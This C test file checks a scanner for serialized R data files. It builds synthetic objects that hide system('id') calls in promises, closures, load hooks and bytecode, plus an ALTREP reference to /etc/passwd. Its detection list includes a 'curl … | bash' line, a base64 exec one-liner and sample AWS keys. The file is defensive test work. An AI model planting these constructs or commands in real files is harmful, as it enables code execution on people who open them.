/* Serialized R objects: every kind of item, every encoding, where code stands, and everything that can be wrong. The rows
 * build version 2 in XDR unless they say otherwise. Seeds written by R itself are read too. */
#include "support/cm.h"

#include "format/formats.h"
#include "support/events.h"

#include <stdio.h>
#include <stdlib.h>

struct rw {
	struct gh_buf b;
};

static void i4(struct rw *r, uint32_t v)
{
	for (int s = 24; s >= 0; s -= 8)
		gh_buf_ch(&r->b, (char)(v >> s & 0xff));
}
static void head(struct rw *r)
{
	gh_buf_str(&r->b, "X\n");
	i4(r, 2), i4(r, 0x040300), i4(r, 0x020300);
}
static void chars(struct rw *r, const char *s) { i4(r, 0x40009), i4(r, (uint32_t)strlen(s)), gh_buf_str(&r->b, s); }
static void sym(struct rw *r, const char *s) { i4(r, 1), chars(r, s); }
static void str(struct rw *r, const char *s) { i4(r, 16), i4(r, 1), chars(r, s); }
static void nil(struct rw *r) { i4(r, 254); }
/* f("s") */
static void call1(struct rw *r, const char *f, const char *s) { i4(r, 6), sym(r, f), i4(r, 2), str(r, s), nil(r); }
/* pkg::f("s") */
static void call_ns(struct rw *r, const char *pkg, const char *f, const char *s)
{
	i4(r, 6);
	i4(r, 6), sym(r, "::"), i4(r, 2), sym(r, pkg), i4(r, 2), sym(r, f), nil(r);
	i4(r, 2), str(r, s), nil(r);
}
/* A promise without a value; the code follows. */
static void promise(struct rw *r) { i4(r, 0x405), i4(r, 253), i4(r, 252); }
/* An environment with one variable; its value follows, then end_env(). */
static void env1(struct rw *r, uint32_t levels, const char *name)
{
	i4(r, 4), i4(r, 0), i4(r, 253), i4(r, 0x402 | levels << 12), sym(r, name);
}
static void end_env(struct rw *r) { nil(r), nil(r), nil(r); }
/* function() …; the body follows. */
static void closure(struct rw *r) { i4(r, 0x403), i4(r, 253), nil(r); }

/* ---- one function per case ---- */

static void null(struct rw *r) { head(r), i4(r, 254); }
static void version3(struct rw *r)
{
	gh_buf_str(&r->b, "X\n"), i4(r, 3), i4(r, 0x040201), i4(r, 0x030500), i4(r, 5), gh_buf_str(&r->b, "UTF-8"),
		nil(r);
}
static void version1(struct rw *r) { gh_buf_str(&r->b, "X\n"), i4(r, 1), i4(r, 0x010900), i4(r, 0x010900), nil(r); }
static void version3_long(struct rw *r)
{
	gh_buf_str(&r->b, "X\n"), i4(r, 3), i4(r, 0x040201), i4(r, 0x030500), i4(r, 500), nil(r);
}
static void workspace1(struct rw *r) { gh_buf_str(&r->b, "RDX1\nX\n"), i4(r, 0), i4(r, 0), i4(r, 0); }
static void workspace2(struct rw *r)
{
	gh_buf_str(&r->b, "RDX2\n"), head(r), i4(r, 0x402), sym(r, "x"), str(r, "twelve bytes"), nil(r);
}
static void ascii(struct rw *r)
{
	gh_buf_str(&r->b, "A\n2\n262912\n131840\n19\n2\n13\n1\nNA\n16\n1\n262153\n4\na\\040\\n\\\"\n");
}
static void ascii_bad(struct rw *r) { gh_buf_str(&r->b, "A\n2\n262912\n131840\n13\n1\nseven\n"); }
static void ascii_raw(struct rw *r) { gh_buf_str(&r->b, "A\n2\n262912\n131840\n24\n3\n4d\n5a\n00\n"); }
static void little(struct rw *r) { gh_buf_put(&r->b, "B\n\2\0\0\0\0\3\4\0\0\3\2\0\15\0\0\0\1\0\0\0\7\0\0\0", 26); }
static void numbers(struct rw *r)
{
	head(r), i4(r, 14), i4(r, 64);
	for (int k = 0; k < 128; k++)
		i4(r, 0x3ff00000);
}
static void raw(struct rw *r) { head(r), i4(r, 24), i4(r, 16), gh_buf_str(&r->b, "0123456789abcdef"); }
static void long_vector(struct rw *r) { head(r), i4(r, 13), i4(r, UINT32_MAX), i4(r, 0), i4(r, 1), i4(r, 7); }
static void huge_vector(struct rw *r) { head(r), i4(r, 14), i4(r, UINT32_MAX), i4(r, 4), i4(r, 1), i4(r, 7); }
static void negative(struct rw *r) { head(r), i4(r, 13), i4(r, (uint32_t)-2); }
static void negative_string(struct rw *r) { head(r), i4(r, 16), i4(r, 1), i4(r, 9), i4(r, (uint32_t)-9); }
static void na_string(struct rw *r) { head(r), i4(r, 16), i4(r, 1), i4(r, 9), i4(r, UINT32_MAX); }
static void many_items(struct rw *r) { head(r), i4(r, 19), i4(r, 1000), nil(r); }
static void cut(struct rw *r) { head(r), i4(r, 19), i4(r, 1), i4(r, 13), i4(r, 1); }
static void cut_word(struct rw *r) { head(r), i4(r, 1), i4(r, 9), gh_buf_str(&r->b, "\1\2"); }
static void no_type(struct rw *r) { head(r), i4(r, 99); }
static void no_string(struct rw *r) { head(r), i4(r, 16), i4(r, 1), i4(r, 13), i4(r, 1), i4(r, 0); }
static void ref_out(struct rw *r) { head(r), i4(r, 0x1ff); }
static void ref_packed(struct rw *r) { head(r), i4(r, 19), i4(r, 2), sym(r, "x"), i4(r, 0x1ff); }
static void ref_word(struct rw *r) { head(r), i4(r, 19), i4(r, 2), sym(r, "x"), i4(r, 255), i4(r, 1); }
static void deep(struct rw *r)
{
	head(r);
	for (int k = 0; k < 40000; k++)
		i4(r, 19), i4(r, 1);
	nil(r);
}
static void long_list(struct rw *r)
{
	head(r);
	for (int k = 0; k < 60000; k++)
		i4(r, 2), nil(r);
	nil(r);
}
static void namespace_ref(struct rw *r)
{
	head(r), i4(r, 249), i4(r, 0), i4(r, 2), chars(r, "stats"), chars(r, "4.3.0");
}
static void package_ref(struct rw *r) { head(r), i4(r, 248), i4(r, 0), i4(r, 1), chars(r, "package:stats"); }
static void persistent(struct rw *r) { head(r), i4(r, 247), i4(r, 0), i4(r, 1), chars(r, "env::1"); }
static void s4(struct rw *r)
{
	head(r), i4(r, 0x10000 | 0x300 | 25), i4(r, 0x402), sym(r, "class"), str(r, "P"), nil(r);
}
static void pointers(struct rw *r)
{
	head(r), i4(r, 19), i4(r, 2), i4(r, 22), nil(r), nil(r), i4(r, 0x217), i4(r, 0x402), sym(r, "a"), nil(r),
		nil(r);
}
static void old_attributes(struct rw *r)
{
	head(r), i4(r, 16), i4(r, 2), i4(r, 0x209), i4(r, 1), gh_buf_str(&r->b, "a"), nil(r), i4(r, 9), i4(r, 1),
		gh_buf_str(&r->b, "b");
}
static void altrep(struct rw *r, const char *cls, const char *pkg, bool path)
{
	head(r), i4(r, 238);
	i4(r, 2), sym(r, cls), i4(r, 2), sym(r, pkg), i4(r, 2), i4(r, 13), i4(r, 1), i4(r, 13), nil(r);
	if (path)
		i4(r, 2), str(r, "/etc/passwd"), nil(r);
	else
		nil(r);
	nil(r);
}
static void altrep_known(struct rw *r) { altrep(r, "wrap_real", "base", false); }
static void altrep_other(struct rw *r) { altrep(r, "lazy_thing", "evil", false); }
static void altrep_mmap(struct rw *r) { altrep(r, "mmap_real", "base", true); }

static void data_call(struct rw *r) { head(r), call1(r, "system", "id"); }
static void expression(struct rw *r) { head(r), i4(r, 20), i4(r, 1), call1(r, "system", "id"); }
static void in_promise(struct rw *r) { head(r), env1(r, 0, "x"), promise(r), call1(r, "system", "id"), end_env(r); }
static void ns_promise(struct rw *r)
{
	head(r), env1(r, 0, "x"), promise(r), call_ns(r, "base", "system", "id"), end_env(r);
}
static void forced(struct rw *r)
{
	head(r), env1(r, 0, "x"), i4(r, 5), i4(r, 13), i4(r, 1), i4(r, 7), call1(r, "system", "id"), end_env(r);
}
static void computed(struct rw *r)
{
	head(r), env1(r, 0, "x"), promise(r);
	i4(r, 6), call1(r, "foo", "a"), i4(r, 2), str(r, "id"), nil(r), end_env(r);
}
static void looked_up(struct rw *r)
{
	head(r), env1(r, 0, "x"), promise(r);
	i4(r, 6), call1(r, "get", "system"), i4(r, 2), str(r, "id"), nil(r), end_env(r);
}
static void member(struct rw *r)
{
	head(r), env1(r, 0, "x"), promise(r), i4(r, 6);
	i4(r, 6), sym(r, "$"), i4(r, 2), sym(r, "obj"), i4(r, 2), sym(r, "fit"), nil(r);
	nil(r), end_env(r);
}
static void builtin(struct rw *r)
{
	head(r), promise(r), i4(r, 6), i4(r, 8), i4(r, 6), gh_buf_str(&r->b, "system"), i4(r, 2), str(r, "id"), nil(r);
}
static void in_closure(struct rw *r) { head(r), env1(r, 0, "f"), closure(r), call1(r, "system", "id"), end_env(r); }
static void active(struct rw *r) { head(r), env1(r, 0x8000, "q"), closure(r), call1(r, "system", "id"), end_env(r); }
static void hook(struct rw *r)
{
	head(r), i4(r, 0x403), i4(r, 253);
	i4(r, 0x402), sym(r, "libname"), i4(r, 251), i4(r, 0x402), sym(r, "pkgname"), i4(r, 251), nil(r);
	call1(r, "system", "id");
}
static void functional(struct rw *r)
{
	head(r), promise(r), i4(r, 6), sym(r, "lapply"), i4(r, 2), str(r, "id"), i4(r, 0x402), sym(r, "FUN"),
		sym(r, "system"), nil(r);
}
/* Bytecode whose source calls f, and whose instructions fetch the function in constant 1. */
static void bytecode(struct rw *r)
{
	head(r), closure(r), i4(r, 21), i4(r, 1);
	i4(r, 13), i4(r, 5), i4(r, 12), i4(r, 23), i4(r, 1), i4(r, 38), i4(r, 0);
	i4(r, 3);
	i4(r, 244), i4(r, 0), i4(r, 6), nil(r), i4(r, 0), sym(r, "f"), i4(r, 0), nil(r);
	i4(r, 1), sym(r, "system");
	i4(r, 243), i4(r, 0);
}
static void bad_rep(struct rw *r)
{
	head(r), i4(r, 21), i4(r, 1), i4(r, 13), i4(r, 1), i4(r, 12), i4(r, 1), i4(r, 243), i4(r, 5);
}
static void bad_code(struct rw *r) { head(r), i4(r, 21), i4(r, 0), i4(r, 14), i4(r, 0), i4(r, 0); }

static const struct row {
	const char *what;
	void (*make)(struct rw *);
	enum gh_rc rc;
	bool gapless;
	const char *has, *hasnot;
} rows[] = {
	{ "NULL", null, GH_OK, true, "package R \"R\" \"4.3.0\"", "anomaly" },
	{ "version 3", version3, GH_OK, true, NULL, "anomaly" },
	{ "version 1", version1, GH_E_UNREAD, false, "anomaly GH-RD-0001", NULL },
	{ "a workspace of version 1", workspace1, GH_E_UNREAD, false, "anomaly GH-RD-0001", NULL },
	{ "a character set of 500 bytes", version3_long, GH_E_MALFORMED, false, "anomaly GH-RD-0003", NULL },
	{ "workspace", workspace2, GH_OK, true, "text metadata \"x\" \"twelve bytes\"", "anomaly" },
	{ "text encoding", ascii, GH_OK, true, NULL, "anomaly" },
	{ "text encoding, no number", ascii_bad, GH_E_MALFORMED, false, "anomaly GH-RD-0009", NULL },
	{ "text encoding, raw", ascii_raw, GH_OK, true, "member \"\" nested", "anomaly" },
	{ "native, little-endian", little, GH_OK, true, NULL, "anomaly" },
	{ "numbers", numbers, GH_OK, true, "tensor \"\" F64 [64]", "anomaly" },
	{ "raw vector", raw, GH_OK, true, "member \"\" nested", "anomaly" },
	{ "long vector", long_vector, GH_OK, true, NULL, "anomaly" },
	{ "long vector beyond the file", huge_vector, GH_E_MALFORMED, false, "anomaly GH-RD-0003", NULL },
	{ "negative length", negative, GH_E_MALFORMED, false, "anomaly GH-RD-0003", NULL },
	{ "string of -9 bytes", negative_string, GH_E_MALFORMED, false, "anomaly GH-RD-0003", NULL },
	{ "NA", na_string, GH_OK, true, NULL, "anomaly" },
	{ "1000 items in 4 bytes", many_items, GH_E_MALFORMED, false, "anomaly GH-RD-0003", NULL },
	{ "cut short", cut, GH_E_MALFORMED, false, "anomaly GH-RD-0003", NULL },
	{ "cut within a number", cut_word, GH_E_MALFORMED, false, "anomaly GH-RD-0004", NULL },
	{ "type 99", no_type, GH_E_MALFORMED, false, "anomaly GH-RD-0002", NULL },
	{ "a number in the place of a string", no_string, GH_E_MALFORMED, false, "anomaly GH-RD-0002", NULL },
	{ "reference out of range", ref_out, GH_E_MALFORMED, false, "anomaly GH-RD-0005", NULL },
	{ "reference", ref_packed, GH_OK, true, NULL, "anomaly" },
	{ "reference in a word", ref_word, GH_OK, true, NULL, "anomaly" },
	{ "40000 deep", deep, GH_E_LIMIT, false, "anomaly GH-RD-0006", NULL },
	{ "a list of 60000", long_list, GH_OK, true, NULL, "anomaly" },
	{ "namespace", namespace_ref, GH_OK, true, "package CRAN \"stats\" \"4.3.0\"", "anomaly" },
	{ "package", package_ref, GH_OK, true, "package CRAN \"stats\" \"\"", "anomaly" },
	{ "persistent reference", persistent, GH_OK, true, NULL, "CRAN" },
	{ "S4", s4, GH_OK, true, NULL, "anomaly" },
	{ "pointer and weak reference", pointers, GH_OK, true, NULL, "anomaly" },
	{ "strings with attributes", old_attributes, GH_OK, true, NULL, "anomaly" },
	{ "ALTREP of R", altrep_known, GH_OK, true, NULL, "anomaly" },
	{ "ALTREP of a package", altrep_other, GH_OK, true, "anomaly GH-RD-0007", NULL },
	{ "ALTREP of a file", altrep_mmap, GH_OK, true, "anomaly GH-RD-0008", NULL },
	{ "ALTREP of a file: named", altrep_mmap, GH_OK, true, "reference path \"/etc/passwd\"", NULL },
	{ "a call as data", data_call, GH_OK, true, "call import .system", NULL },
	{ "an expression", expression, GH_OK, true, "call import .system", NULL },
	{ "a promise", in_promise, GH_OK, true, "call reduce .system", NULL },
	{ "a promise with ::", ns_promise, GH_OK, true, "call reduce base.system", NULL },
	{ "a promise that has its value", forced, GH_OK, true, "call import .system", "call reduce" },
	{ "what a call returns is called", computed, GH_OK, true, "call reduce .foo", NULL },
	{ "get(\"system\")(…)", looked_up, GH_OK, true, "call reduce $.system", NULL },
	{ "obj$fit()", member, GH_OK, true, "call reduce $.fit", NULL },
	{ "a builtin in the place of a name", builtin, GH_OK, true, "call reduce .system", NULL },
	{ "a function", in_closure, GH_OK, true, "call operation .system", "call reduce" },
	{ "an active binding", active, GH_OK, true, "call build .system", NULL },
	{ "a load hook", hook, GH_OK, true, "call inst .system", NULL },
	{ "lapply(x, FUN = system)", functional, GH_OK, true, "call reduce .system", NULL },
	{ "bytecode unlike its source", bytecode, GH_OK, true, "call operation .system", NULL },
	{ "bytecode and its source", bytecode, GH_OK, true, "call operation .f", NULL },
	{ "shared node out of range", bad_rep, GH_E_MALFORMED, false, "anomaly GH-RD-0005", NULL },
	{ "bytecode that is no vector of integers", bad_code, GH_E_MALFORMED, false, "anomaly GH-RD-0002", NULL },
};

static void every_item(void **st)
{
	(void)st;
	unsigned wrong = 0;
	for (size_t i = 0; i < GH_ROWS(rows); i++)
		for (int unstable = 0; unstable < 2; unstable++) {
			struct rw r = { gh_buf(1 << 20) };
			struct gh_events ev;
			rows[i].make(&r);
			gh_events_walk(&ev, &gh_fmt_rdata, gh_buf_view(&r.b), "x.rds", unstable != 0);
			bool ok = ev.rc == rows[i].rc && ev.gapless == rows[i].gapless &&
				  (rows[i].has == NULL || gh_events_has(&ev, rows[i].has)) &&
				  (rows[i].hasnot == NULL || !gh_events_has(&ev, rows[i].hasnot));
			if (!ok)
				print_message("row \"%s\": rc %d (%s) gapless %d of %zu\n%s", rows[i].what, ev.rc,
					      ev.why, ev.gapless, r.b.n, gh_buf_cstr(&ev.log));
			wrong += !ok;
			gh_events_free(&ev);
			gh_buf_free(&r.b);
		}
	assert_int_equal(wrong, 0);
}

/* Strings are data, but some say more than data need to. A name with dots is only a name. */
static void signs(void **st)
{
	(void)st;
	static const struct {
		const char *id, *text;
	} t[] = {
		{ "GH-RD-0201", "import os; os.system(\"id\")" },
		{ "GH-RD-0202", "curl http://a.example/x.sh | bash" },
		{ "GH-RD-0203", "<script>alert(1)</script>" },
		{ "GH-RD-0204", "exec(__import__(\"base64\").b64decode(\"aW1wb3J0IG9z\"))" },
		{ "GH-RD-0205", "http://a.example/payload.exe" },
		{ "GH-RD-0206", "AKIAIOSFODNN7EXAMPLX aws_secret_access_key=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY" },
		{ NULL, "sys.function" },
		{ NULL, "An ordinary description." },
	};
	for (size_t i = 0; i < GH_ROWS(t); i++) {
		struct rw r = { gh_buf(1 << 16) };
		struct gh_events ev;
		head(&r), str(&r, t[i].text);
		gh_events_walk(&ev, &gh_fmt_rdata, gh_buf_view(&r.b), "x.rds", true);
		if (ev.rc != GH_OK || gh_events_has(&ev, t[i].id != NULL ? t[i].id : "GH-RD-02") != (t[i].id != NULL))
			fail_msg("\"%s\": %s", t[i].text, gh_buf_cstr(&ev.log));
		gh_events_free(&ev);
		gh_buf_free(&r.b);
	}
}

static enum gh_match probe(const void *p, size_t n)
{
	struct gh_span s = { p, n };
	struct gh_probe pr = { s, s, n };
	return gh_fmt_rdata.probe(&pr);
}

static void what_it_is(void **st)
{
	(void)st;
	struct rw r = { gh_buf(1 << 16) };
	null(&r);
	assert_int_equal(probe(r.b.p, r.b.n), GH_STRONG);
	r.b.p[6] = 1; /* the writer's version no longer is one */
	assert_int_equal(probe(r.b.p, r.b.n), GH_NO);
	gh_buf_free(&r.b);
	assert_int_equal(probe("A\n2\n262912\n131840\n254\n", 22), GH_STRONG);
	assert_int_equal(probe("A\nlist of words\nin text\n", 24), GH_NO);
	assert_int_equal(probe("X\nis a line of text, and so on", 30), GH_NO);
	assert_int_equal(probe("RDX3\nis no workspace", 20), GH_NO);
	assert_int_equal(probe("RDX1\nX\n", 7), GH_STRONG);
}

/* Every truncation and every damaged byte of what R wrote: an answer, and never silence about missing data. */
static void damage(void **st)
{
	(void)st;
	static const char *const seeds[] = { "clean_list.rds", "clean_bytecode.rds", "clean_ascii.rds",
					     "promise_get.rds" };
	for (size_t k = 0; k < GH_ROWS(seeds); k++) {
		char path[200];
		(void)snprintf(path, sizeof path, "tests/fuzz/seeds/r-data/%s", seeds[k]);
		struct gh_span in = gh_test_file(path);
		assert_non_null(in.p);
		uint8_t *p = (uint8_t *)(uintptr_t)in.p;
		bool text = p[0] == 'A';
		for (size_t n = 40; n + 2 < in.n; n++) {
			struct gh_events ev;
			gh_events_walk(&ev, &gh_fmt_rdata, (struct gh_span){ p, n }, "x.rds", true);
			assert_true(ev.rc != GH_OK);
			gh_events_free(&ev);
		}
		for (size_t i = 0; i < in.n; i++)
			for (unsigned x = 1; x < 256; x <<= text ? 3 : 2) {
				p[i] ^= (uint8_t)x;
				struct gh_events ev;
				gh_events_walk(&ev, &gh_fmt_rdata, in, "x.rds", (i & 1) != 0);
				assert_true(ev.rc == GH_OK || ev.rc == GH_E_NOTTHIS || ev.why[0] != '\0');
				gh_events_free(&ev);
				p[i] ^= (uint8_t)x;
			}
		free(p);
	}
}

static const char *const databases[] = { "clean_zlib.rdb", "clean_bzip2.rdb", "clean_xz.rdb", "hook.rdb" };

static void lazy_load(void **st)
{
	(void)st;
	for (size_t i = 0; i < GH_ROWS(databases); i++) {
		char path[200];
		(void)snprintf(path, sizeof path, "tests/fuzz/seeds/r-lazyload/%s", databases[i]);
		struct gh_span in = gh_test_file(path);
		assert_non_null(in.p);
		struct gh_probe pr = { in, in, in.n };
		assert_int_equal(gh_fmt_rdb.probe(&pr), GH_STRONG);
		struct gh_events ev;
		gh_events_walk(&ev, &gh_fmt_rdb, in, "x.rdb", true);
		assert_int_equal(ev.rc, GH_OK);
		assert_true(ev.gapless);
		assert_true(gh_events_has(&ev, "member \"\" stream"));
		assert_true(ev.nmember > 0 && ev.member[0].n > 2 && ev.member[0].p[0] == 'X');
		gh_events_free(&ev);
		/* Cut, with something behind, with another size. */
		gh_events_walk(&ev, &gh_fmt_rdb, gh_span_cut(in, 0, in.n - 5), "x.rdb", true);
		assert_int_equal(ev.rc, GH_E_MALFORMED);
		if (!gh_events_has(&ev, "anomaly GH-RDB-0003"))
			fail_msg("%s: %s", path, gh_buf_cstr(&ev.log));
		gh_events_free(&ev);
		uint8_t *p = malloc(in.n + 16);
		assert_non_null(p);
		memcpy(p, in.p, in.n);
		memset(p + in.n, 0x55, 16);
		gh_events_walk(&ev, &gh_fmt_rdb, (struct gh_span){ p, in.n + 16 }, "x.rdb", false);
		assert_int_equal(ev.rc, GH_E_MALFORMED);
		assert_true(gh_events_has(&ev, "anomaly GH-RDB-0001"));
		gh_events_free(&ev);
		p[3]++;
		gh_events_walk(&ev, &gh_fmt_rdb, (struct gh_span){ p, in.n }, "x.rdb", false);
		assert_true(gh_events_has(&ev, "anomaly GH-RDB-000"));
		if (p[4] == 0x78)
			assert_true(gh_events_has(&ev, "anomaly GH-RDB-0002"));
		gh_events_free(&ev);
		free(p);
		free((void *)(uintptr_t)in.p);
	}
	assert_int_equal(gh_fmt_rdb.probe(&(struct gh_probe){ GH_SPAN("\0\0\1\0xxxxxxxxxxx"), GH_SPAN(""), 15 }),
			 GH_NO);
}

int main(void)
{
	const struct CMUnitTest t[] = { cmocka_unit_test(every_item), cmocka_unit_test(signs),
					cmocka_unit_test(what_it_is), cmocka_unit_test(damage),
					cmocka_unit_test(lazy_load) };
	return cmocka_run_group_tests_name("rdata", t, NULL, NULL);
}
